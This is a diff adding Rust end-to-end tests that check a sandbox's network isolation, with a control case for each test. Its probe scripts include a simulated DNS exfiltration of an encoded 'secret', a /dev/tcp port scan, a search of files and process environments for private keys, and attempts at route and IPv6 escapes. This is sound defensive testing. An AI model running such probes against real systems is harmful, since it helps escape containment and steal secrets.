@@ -1,0 +1,394 @@
+//! From inside a task: what must not be reachable is not, and each test has its control.
+
+use std::net::Ipv4Addr;
+
+use e2e_tests::bed::{self, Bed};
+use e2e_tests::engine;
+use e2e_tests::host::{self, HostService};
+use e2e_tests::world::{IcmpSink, SINK, UdpSink};
+use sandbox::{Input, Network, OutputChunk, Role};
+use serde_json::json;
+
+const POLICY: &str = "domains: [open.test]";
+
+/// The host's address on the cable to the world.
+const HOST: &str = "203.0.113.254";
+
+async fn probe(bed: &Bed, arguments: &str) -> String {
+    let ran = bed.run(POLICY, &format!("/probe {arguments}")).await;
+    assert_eq!(ran.code, 0, "the probe could not run: {}", ran.stderr);
+    ran.stdout
+}
+
+/// An outcome of the probe that shows that something answered.
+fn answered(outcome: &str) -> bool {
+    assert!(
+        outcome.contains("\"outcome\""),
+        "the probe said nothing of use: {outcome}"
+    );
+    outcome.contains("\"reached\"") || outcome.contains("\"refused\"")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_hosts_services_are_unreachable_over_ipv4() {
+    let bed = Bed::new().await;
+    let service = HostService::start();
+    for address in [HOST, "10.88.0.1", "169.254.1.2"] {
+        let outcome = probe(&bed, &format!("tcp {address} {}", service.port())).await;
+        assert!(!answered(&outcome), "{address}: {outcome}");
+    }
+    // The first address of the task's own network, where a bridge would have its gateway.
+    let script = format!(
+        "ip -4 -o addr show scope global | awk '{{print $4}}'; /probe tcp $(ip -4 -o addr show scope global | awk '{{print $4}}' | sed 's/\\.[0-9]*\\/.*//').1 {}",
+        service.port()
+    );
+    let ran = bed.run(POLICY, &script).await;
+    assert!(!answered(&ran.stdout), "{}", ran.stdout);
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_control_an_unrestricted_task_reaches_the_hosts_services() {
+    let bed = Bed::new().await;
+    let service = HostService::start();
+    let spec = bed
+        .command(POLICY, &["/probe", "tcp", HOST, &service.port().to_string()])
+        .network(Network::Unrestricted);
+    let ran = bed.run_spec(spec).await;
+    assert!(answered(&ran.stdout), "{}", ran.stdout);
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn names_that_podman_gives_the_host_lead_nowhere() {
+    let bed = Bed::new().await;
+    let service = HostService::start();
+    for name in ["host.containers.internal", "host.docker.internal"] {
+        let script = format!(
+            "for address in $(getent ahostsv4 {name} | awk '{{print $1}}' | sort -u); do /probe tcp $address {}; done; echo '\"outcome\"'",
+            service.port()
+        );
+        let ran = bed.run(POLICY, &script).await;
+        assert!(!ran.stdout.contains("\"reached\""), "{name}: {}", ran.stdout);
+    }
+    bed.close().await;
+}
+
+/// Runs `script` in a task, hands its address on the bridge to `attack` while it waits, and gives the task's answer.
+async fn with_link_local(bed: &Bed, port: u16) -> Vec<String> {
+    let spec = bed.command(
+        POLICY,
+        &[
+            "bash",
+            "-c",
+            "while read address; do /probe tcp $address PORT; done"
+                .replace("PORT", &port.to_string())
+                .as_str(),
+        ],
+    );
+    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let (writer, reader) = tokio::io::duplex(4096);
+    let feeding = tokio::spawn(feed_link_local(writer));
+    let mut output = String::new();
+    let result = command
+        .execute(Input::Reader(Box::new(reader)), async |chunk| {
+            if let OutputChunk::Stdout(bytes) = chunk {
+                output.push_str(&String::from_utf8_lossy(&bytes));
+            }
+        })
+        .await
+        .expect("the sandbox works");
+    assert_eq!(result.exit_code, 0);
+    let tried = feeding.await.expect("the addresses");
+    let outcomes: Vec<String> = output.lines().map(str::to_owned).collect();
+    assert_eq!(outcomes.len(), tried, "each address was tried: {outcomes:?}");
+    assert!(tried > 0, "the host's bridge has a link-local address");
+    outcomes
+}
+
+/// Tells the task the link-local addresses that the host's bridges have while the task runs.
+async fn feed_link_local(mut writer: tokio::io::DuplexStream) -> usize {
+    use tokio::io::AsyncWriteExt as _;
+    // A bridge gets its link-local address about two seconds after it came up, when no other host claims it.
+    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
+    let addresses = tokio::task::spawn_blocking(host::link_local_addresses)
+        .await
+        .expect("the host's addresses");
+    let bridges: Vec<_> = addresses
+        .into_iter()
+        .filter(|(_, name)| name.starts_with("podman"))
+        .collect();
+    for (address, _) in &bridges {
+        writer
+            .write_all(format!("{address}\n").as_bytes())
+            .await
+            .expect("the task reads");
+    }
+    bridges.len()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_hosts_services_are_unreachable_over_ipv6_link_local() {
+    let bed = Bed::new().await;
+    let service = HostService::start();
+    for outcome in with_link_local(&bed, service.port()).await {
+        assert!(!answered(&outcome), "{outcome}");
+    }
+    let addresses = bed.run(POLICY, "cat /proc/net/if_inet6 2>/dev/null; cat /proc/sys/net/ipv6/conf/*/disable_ipv6 | sort -u; echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6 || echo refused").await;
+    assert_eq!(addresses.stdout, "1\nrefused\n", "{}", addresses.stderr);
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_control_with_ipv6_on_an_internal_network_reaches_the_host() {
+    let service = HostService::start();
+    let network = format!("e2e-control-{}", service.port());
+    let body = json!({"name": network, "driver": "bridge", "internal": true, "dns_enabled": false,
+        "subnets": [{"subnet": "10.198.77.0/24"}]});
+    engine::json("POST", "/networks/create", Some(&body)).await;
+    let on_it = json!({"netns": {"nsmode": "bridge"}, "Networks": {network.clone(): {}}, "networks": {network.clone(): {}}});
+    let holder = tokio::spawn({
+        let on_it = on_it.clone();
+        async move { engine::weakened(&["sleep", "30"], &on_it).await }
+    });
+    tokio::time::sleep(std::time::Duration::from_secs(4)).await;
+    let addresses = tokio::task::spawn_blocking(host::link_local_addresses)
+        .await
+        .expect("the host's addresses");
+    let mut reached = false;
+    for (address, _) in addresses
+        .into_iter()
+        .filter(|(_, name)| name.starts_with("podman"))
+    {
+        let outcome = engine::weakened(
+            &[
+                "--after",
+                "4",
+                "tcp",
+                &address.to_string(),
+                &service.port().to_string(),
+            ],
+            &on_it,
+        )
+        .await;
+        reached |= answered(&outcome);
+    }
+    holder.await.expect("the container that keeps the bridge up");
+    engine::call("DELETE", &format!("/networks/{network}?force=true"), None).await;
+    assert!(
+        reached,
+        "without the guard the host is reachable over the bridge's link-local address"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn udp_and_icmp_to_the_outside_arrive_nowhere() {
+    let bed = Bed::new().await;
+    let sink = UdpSink::bind(SINK);
+    let echoes = IcmpSink::bind(SINK);
+    // Directly, and with the proxy as a router for whoever could change routes.
+    let script = format!(
+        "/probe udp {} 5; /probe icmp {SINK} 5; ip route add default via $(awk '/nameserver/ {{print $2}}' /etc/resolv.conf) 2>&1; \
+         /probe udp {} 5; /probe tcp {SINK} 80 --device eth0; /probe udp {}:53 5",
+        sink.address(),
+        sink.address(),
+        Ipv4Addr::new(203, 0, 113, 10),
+    );
+    let ran = bed.run(POLICY, &script).await;
+    assert_eq!(
+        ran.stdout.matches("\"outcome\"").count(),
+        5,
+        "each attempt was made: {}",
+        ran.stdout
+    );
+    assert_eq!((sink.count(), echoes.count()), (0, 0), "{}", ran.stdout);
+
+    let spec = bed
+        .command(POLICY, &["bash", "-c", &script])
+        .network(Network::Unrestricted);
+    let control = bed.run_spec(spec).await;
+    assert!(
+        sink.count() > 0,
+        "the control reaches the sink: {}",
+        control.stdout
+    );
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_control_for_icmp_with_a_raw_socket_the_echo_arrives() {
+    let echoes = IcmpSink::bind(SINK);
+    let outcome = engine::weakened(
+        &["icmp", &SINK.to_string(), "3"],
+        &json!({"cap_add": ["NET_RAW"]}),
+    )
+    .await;
+    assert!(echoes.count() > 0, "{outcome}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn names_never_leave_and_only_the_proxy_answers() {
+    let bed = Bed::new().await;
+    let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
+/probe dns $server:53 c2VjcmV0.exfiltrate.test 1
+/probe dns $server:53 c2VjcmV0.exfiltrate.test 16
+/probe dns $server:53 c2VjcmV0.exfiltrate.test 255 --tcp
+/probe dns 203.0.113.10:53 open.test 1
+/probe dns 203.0.113.10:53 open.test 1 --tcp";
+    let ran = bed.run(POLICY, script).await;
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert!(
+        lines[0].contains("rcode 0 answers 1 address 10.199."),
+        "{}",
+        ran.stdout
+    );
+    assert!(
+        lines[1].contains("rcode 0 answers 0") && lines[2].contains("rcode 0 answers 0"),
+        "{}",
+        ran.stdout
+    );
+    assert!(!answered(lines[3]) && !answered(lines[4]), "{}", ran.stdout);
+    assert_eq!(
+        ran.log_lines("DNS TXT c2VjcmV0.exfiltrate.test -> NODATA").len(),
+        1,
+        "{}",
+        ran.log
+    );
+    let spec = bed
+        .command(POLICY, &["/probe", "dns", "203.0.113.10:53", "open.test", "1"])
+        .network(Network::Unrestricted);
+    assert!(
+        answered(&bed.run_spec(spec).await.stdout),
+        "the control reaches the world's name server"
+    );
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn only_three_ports_of_the_proxy_are_open() {
+    let bed = Bed::new().await;
+    let script = "server=$(awk '/nameserver/ {print $2}' /etc/resolv.conf)
+for port in $(seq 1 1024) 3128 8080 8081 8443 9090; do (exec 3<>/dev/tcp/$server/$port) 2>/dev/null && echo $port; done; true";
+    let ran = bed.run(POLICY, script).await;
+    assert_eq!(ran.stdout, "53\n80\n443\n", "{}", ran.stderr);
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn two_tasks_see_nothing_of_each_other() {
+    let first = Bed::new().await;
+    let second = Bed::new().await;
+    // Each task prints its proxy's address, then tries the other's.
+    let waiting = "awk '/nameserver/ {print $2}' /etc/resolv.conf; read other; /probe tcp $other 80; curl -sS https://open.test/mine";
+    let (a, b) = tokio::join!(conversation(&first, waiting), conversation(&second, waiting));
+    assert!(!answered(&a) && !answered(&b), "{a}\n{b}");
+    assert!(
+        a.contains("hello from open.test") && b.contains("hello from open.test"),
+        "{a}\n{b}"
+    );
+    first.close().await;
+    second.close().await;
+}
+
+/// Runs `script`, and writes to its stdin the proxy address that the other conversation printed.
+async fn conversation(bed: &Bed, script: &str) -> String {
+    use std::sync::OnceLock;
+    use tokio::sync::broadcast;
+    static ADDRESSES: OnceLock<broadcast::Sender<String>> = OnceLock::new();
+    let addresses = ADDRESSES.get_or_init(|| broadcast::Sender::new(8));
+    let mut others = addresses.subscribe();
+    let (mut writer, reader) = tokio::io::duplex(256);
+    let spec = bed.command(POLICY, &["bash", "-c", script]);
+    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let mut output = String::new();
+    let mut own = None;
+    let (told, hear) = tokio::sync::oneshot::channel::<String>();
+    let mut told = Some(told);
+    let feeding = tokio::spawn(async move {
+        use tokio::io::AsyncWriteExt as _;
+        let own = hear.await.expect("the task prints its proxy's address");
+        loop {
+            let other = others
+                .recv()
+                .await
+                .expect("the other task prints its proxy's address");
+            if other != own {
+                writer
+                    .write_all(format!("{other}\n").as_bytes())
+                    .await
+                    .expect("the task reads");
+                return;
+            }
+        }
+    });
+    command
+        .execute(Input::Reader(Box::new(reader)), async |chunk| {
+            let OutputChunk::Stdout(bytes) = chunk else { return };
+            output.push_str(&String::from_utf8_lossy(&bytes));
+            if own.is_none()
+                && let Some(line) = output.lines().next()
+            {
+                own = Some(line.to_owned());
+                let _ = addresses.send(line.to_owned());
+                if let Some(told) = told.take() {
+                    let _ = told.send(line.to_owned());
+                }
+            }
+        })
+        .await
+        .expect("the sandbox works");
+    feeding.await.expect("the other's address");
+    output
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn neither_the_root_key_nor_the_tasks_key_is_in_reach() {
+    let bed = Bed::new().await;
+    let script = "grep -rl 'PRIVATE KEY' /run/sandbox /etc/ssl /usr/local/share 2>/dev/null; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'PRIVATE KEY'; mount | grep -c sandbox-e2e-podman; true";
+    let ran = bed.run(POLICY, script).await;
+    assert_eq!(ran.stdout.lines().next(), Some("0"), "{}", ran.stdout);
+    let key = std::fs::read_to_string(bed::state_dir().join("authority/root.pem"))
+        .is_ok_and(|text| text.contains("PRIVATE KEY"));
+    assert!(
+        key,
+        "the control: the root key is in the state folder of the host"
+    );
+    bed.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn when_the_proxy_is_killed_all_traffic_stops() {
+    let bed = Bed::new().await;
+    let script = "curl -sS --max-time 5 https://open.test/ && echo before; read go; \
+         curl -sS --max-time 5 https://open.test/ && echo after; /probe tcp 203.0.113.10 443; echo end";
+    let spec = bed.command(POLICY, &["bash", "-c", script]);
+    let command = bed.sandbox.create_command(spec).expect("a good command");
+    let (mut writer, reader) = tokio::io::duplex(64);
+    let (seen, wait) = tokio::sync::oneshot::channel();
+    let mut seen = Some(seen);
+    let mut output = String::new();
+    let running = command.execute(Input::Reader(Box::new(reader)), async |chunk| {
+        if let OutputChunk::Stdout(bytes) = chunk {
+            output.push_str(&String::from_utf8_lossy(&bytes));
+            if output.contains("before")
+                && let Some(seen) = seen.take()
+            {
+                let _ = seen.send(());
+            }
+        }
+    });
+    let killing = async {
+        use tokio::io::AsyncWriteExt as _;
+        wait.await.expect("a first request went through");
+        let proxy = bed.container(Role::Proxy).await;
+        engine::call("POST", &format!("/containers/{proxy}/kill?signal=KILL"), None).await;
+        writer.write_all(b"go\n").await.expect("the task reads");
+    };
+    let (result, ()) = tokio::join!(running, killing);
+    result.expect("a dead proxy is no failure of the command");
+    assert!(output.contains("end") && !output.contains("after"), "{output}");
+    assert!(!output.contains("\"reached\""), "{output}");
+    let log = std::fs::read_to_string(bed.folder().join("network-sandbox.log")).expect("a log");
+    assert!(log.contains("WARNING"), "{log}");
+    bed.close().await;
+}
